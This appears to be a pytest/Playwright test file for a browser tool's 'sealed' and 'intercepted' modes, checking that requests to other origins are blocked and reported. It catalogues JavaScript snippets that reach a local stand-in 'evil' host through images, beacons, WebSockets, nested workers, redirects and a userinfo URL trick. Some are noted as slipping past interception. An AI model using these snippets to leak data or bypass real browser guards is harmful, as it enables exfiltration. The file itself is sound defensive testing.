"""Every way in which a page can ask another origin for something: open it arrives, guarded it does not."""

from __future__ import annotations

import contextlib
from collections.abc import Iterable, Mapping

import pytest
from playwright.async_api import Error, Page

from portaldriver.pom.windows import close_page
from tests.waiting import until

from .conftest import Ways
from .town import Town

GUARDED = ("sealed", "intercepted")

ELEMENTS = {
    "image": "add('img', {src: evil})",
    "script": "add('script', {src: evil})",
    "stylesheet": "add('link', {rel: 'stylesheet', href: evil})",
    "video": "add('video', {src: evil, preload: 'auto'})",
    "iframe": "add('iframe', {src: evil})",
    "object": "add('object', {data: evil})",
    "embed": "add('embed', {src: evil})",
    "prefetch": "add('link', {rel: 'prefetch', href: evil})",
    "preload": "add('link', {rel: 'preload', as: 'script', href: evil})",
    "modulepreload": "add('link', {rel: 'modulepreload', href: evil})",
    "font": "add('style', {textContent: `@font-face {font-family: x; src: url(${evil})} body {font-family: x}`})",
    "background": "add('style', {textContent: `body {background: url(${evil})}`})",
    "form": "add('form', {action: evil, method: 'post', target: '_blank'}).submit()",
    "ping": "add('a', {href: '#x', ping: evil}).click()",
    "refresh": "add('iframe', {src: '/refresh'})",
    "framed-blank": "add('iframe', {srcdoc: `<img src=${evil}>`})",
}
CALLS = {
    "fetch": "fetch(evil, {mode: 'no-cors'}).catch(() => 0)",
    "keepalive": "fetch(evil, {mode: 'no-cors', method: 'POST', keepalive: true}).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', evil); x.send()",
    "beacon": "navigator.sendBeacon(evil, 'x')",
    "eventsource": "new EventSource(evil)",
    "websocket": "new WebSocket(evil.replace('http', 'ws'))",
    "popup": "window.open(evil)",
    "popup-without-opener": "window.open(evil, '_blank', 'noopener')",
    "worker": "new Worker(code(`fetch('${evil}', {mode: 'no-cors'}).catch(() => 0)`))",
    "nested-worker": "new Worker(code(`new Worker(URL.createObjectURL(new Blob([\"fetch('${evil}')\"])))`))",
    "imported": "new Worker(code(`importScripts('${evil}')`))",
}
PAST_INTERCEPTION = {
    "redirected-fetch": "fetch('/away', {mode: 'no-cors'}).catch(() => 0)",
    "redirected-image": "add('img', {src: '/away'})",
    "redirected-iframe": "add('iframe', {src: '/away'})",
    "redirected-popup": "window.open('/away')",
    "worker-websocket": "new Worker(code(`new WebSocket('${evil}'.replace('http', 'ws'))`))",
}
"""What only a seal stops; interception tells of it when it has happened."""

SHARED_WORKER = """new SharedWorker(code(`onconnect = e =>
  fetch('${evil}', {mode: 'no-cors'}).catch(() => 0).finally(() => e.ports[0].postMessage(1))`)).port.onmessage = done"""
"""The driver does not report what it asks for; the page itself says when it is over."""

LEAVING = {
    "navigation": "location.href = evil",
    "form-itself": "add('form', {action: evil, method: 'post'}).submit()",
    "redirected-page": "location.href = '/away'",
}
"""What takes the page itself along."""

KINDS = {**ELEMENTS, **CALLS, **PAST_INTERCEPTION}

TOOLS = """
  const add = (tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given));
  const code = text => URL.createObjectURL(new Blob([text], {type: 'text/javascript'}));
"""


async def ask(page: Page, town: Town, kinds: Mapping[str, str]) -> None:
    """Let the portal's page ask for something, each kind at an origin of its own."""
    await page.goto(town.page("portal", "/", "<!doctype html><body>words"))
    for kind, script in kinds.items():
        evil = town.origin("evil-" + kind) + "/x"
        town.redirect("portal", f"/away-{kind}", evil)
        town.page("portal", "/refresh", f"<meta http-equiv=refresh content='0;url={town.origin('evil-refresh')}/x'>")
        steps = script.replace("/away", f"/away-{kind}")
        # Not at once: a page that leaves while it is asked may never answer.
        steps = f"setTimeout(() => {{ {steps} }})" if kind in LEAVING else steps
        await page.evaluate(f"evil => {{ {TOOLS} {steps} }}", evil)


def reached(town: Town, kinds: Iterable[str]) -> set[str]:
    return {kind for kind in kinds if town.asked_of("evil-" + kind)}


def told(ways: Ways, kinds: Iterable[str]) -> set[str]:
    hosts = {event.host for event in ways.told.named("RequestBlocked")}
    return {kind for kind in kinds if f"evil-{kind}.localhost" in hosts}


async def outcome(ways: Ways, town: Town, way: str, kinds: Mapping[str, str]) -> tuple[set[str], set[str]]:
    """Return which kinds reached their origin and which were told of, once all have been the one or the other."""
    context = await ways.context(way)
    page = await context.new_page()
    try:
        # What a worker's worker asks for may be cut off before the driver has seen that worker: it is asked again.
        for seconds in (20, 60):
            seen = reached(town, kinds) if way == "open" else told(ways, kinds)
            await ask(page, town, {kind: script for kind, script in kinds.items() if kind not in seen})
            with contextlib.suppress(TimeoutError):
                await until(
                    lambda: (reached(town, kinds) if way == "open" else told(ways, kinds)) == set(kinds),
                    seconds=seconds,
                )
                break
        return reached(town, kinds), told(ways, kinds)
    finally:
        for left in context.pages:
            await close_page(left, 10)


WHOLE = [KINDS, *({kind: script} for kind, script in LEAVING.items())]


@pytest.mark.parametrize("kinds", WHOLE, ids=["staying", *LEAVING])
async def test_unguarded_everything_arrives(ways: Ways, town: Town, kinds: dict[str, str]) -> None:
    arrived, _ = await outcome(ways, town, "open", kinds)
    assert arrived == set(kinds)


@pytest.mark.parametrize("kinds", WHOLE, ids=["staying", *LEAVING])
async def test_nothing_passes_a_seal_and_all_is_told(ways: Ways, town: Town, kinds: dict[str, str]) -> None:
    assert await outcome(ways, town, "sealed", kinds) == (set(), set(kinds))


@pytest.mark.parametrize("kinds", WHOLE, ids=["staying", *LEAVING])
async def test_interception_tells_of_what_it_lets_past(ways: Ways, town: Town, kinds: dict[str, str]) -> None:
    passed, known = await outcome(ways, town, "intercepted", kinds)
    assert known == set(kinds)
    assert passed <= {*PAST_INTERCEPTION, "redirected-page"}


async def share_a_worker(ways: Ways, town: Town, way: str) -> list[str]:
    page = await (await ways.context(way)).new_page()
    await page.goto(town.page("portal", "/", "<!doctype html><body>words"))
    try:
        await page.evaluate(f"evil => new Promise(done => {{ {TOOLS} {SHARED_WORKER} }})", town.origin("evil") + "/x")
    finally:
        await page.close()
    return town.asked_of("evil")


async def test_a_seal_holds_for_shared_workers(ways: Ways, town: Town) -> None:
    assert await share_a_worker(ways, town, "open") == ["/x"]
    town.asked.clear()
    assert await share_a_worker(ways, town, "sealed") == []


async def test_there_are_no_shared_workers_where_requests_are_intercepted(ways: Ways, town: Town) -> None:
    with pytest.raises(Error, match="SharedWorker is not defined"):
        await share_a_worker(ways, town, "intercepted")
    assert not town.asked_of("evil")


@pytest.mark.parametrize("way", GUARDED)
async def test_allowed_origins_are_reached_in_every_way(ways: Ways, town: Town, way: str) -> None:
    context = await ways.context(way)
    page = await context.new_page()
    partner = town.page("partner", "/x", "<!doctype html>", headers={"Access-Control-Allow-Origin": "*"})
    town.redirect("portal", "/to-partner", partner)
    await page.goto(town.page("portal", "/", "<!doctype html><body>words"))
    for script in (
        ELEMENTS["image"],
        ELEMENTS["iframe"],
        CALLS["fetch"],
        CALLS["worker"],
        PAST_INTERCEPTION["redirected-fetch"],
    ):
        town.asked.clear()
        await page.evaluate(f"evil => {{ {TOOLS} {script.replace('/away', '/to-partner')} }}", partner)
        await until(lambda: town.asked_of("partner"))
    town.asked.clear()
    await page.evaluate("url => { new WebSocket(url.replace('http', 'ws')) }", partner)
    await until(lambda: town.asked_of("partner"))
    await page.goto(town.origin("portal") + "/to-partner")
    assert page.url == partner
    await page.close()
    assert not ways.told


@pytest.mark.parametrize("way", GUARDED)
@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "sub.portal.localhost", "portal.localhost.", "trick"])
async def test_another_name_of_the_same_machine_is_another_origin(ways: Ways, town: Town, way: str, name: str) -> None:
    page = await (await ways.context(way)).new_page()
    place = f"portal.localhost:{town.port}@evil.localhost" if name == "trick" else name
    with pytest.raises(Error, match=r"ERR_BLOCKED_BY_CLIENT|ERR_PROXY_CONNECTION_FAILED"):
        await page.goto(f"http://{place}:{town.port}/", timeout=10_000)
    assert "/" not in [target for _, target in town.asked]
    await page.close()


@pytest.mark.parametrize("way", GUARDED)
async def test_a_host_and_kind_is_told_of_once(ways: Ways, town: Town, way: str) -> None:
    context = await ways.fresh(way)
    page = await context.new_page()
    evil = town.origin("evil") + "/"
    await page.goto(town.page("portal", "/", "<!doctype html><body>words"))
    asking = "evil => Promise.all([1, 2, 3].map(n => fetch(`${evil}secret-path-${n}?who=x`).catch(() => 0)))"
    await page.evaluate(asking, evil)
    await page.evaluate("evil => new Promise(done => { const i = new Image(); i.onerror = done; i.src = evil })", evil)
    await until(lambda: len(ways.told) >= 2)
    await page.evaluate(asking, evil)
    told = [(event.host, event.kind) for event in ways.told.named("RequestBlocked")]
    assert sorted(told) == [("evil.localhost", "fetch"), ("evil.localhost", "image")]
    assert "secret-path" not in repr(ways.told)
    await context.close()


@pytest.mark.parametrize("way", GUARDED)
async def test_service_workers_are_blocked(ways: Ways, town: Town, way: str) -> None:
    town.page("portal", "/sw.js", "self.onfetch = () => {}", kind="text/javascript")
    page = await (await ways.context(way)).new_page()
    await page.goto(town.page("portal", "/", "<!doctype html><body>words"))
    await page.evaluate("Promise.race([navigator.serviceWorker.register('/sw.js'), fetch('/').then(x => x.text())])")
    assert "/sw.js" not in town.asked_of("portal")
    await page.close()


async def test_a_seal_keeps_the_cache(ways: Ways, town: Town) -> None:
    town.page("portal", "/a.js", "var a = 1", kind="text/javascript", headers={"Cache-Control": "max-age=600"})
    url = town.page("portal", "/", "<!doctype html><script src=/a.js></script>")
    page = await (await ways.context("sealed")).new_page()
    for _ in range(3):
        await page.goto(url)
    assert town.asked_of("portal").count("/a.js") == 1
    await page.close()
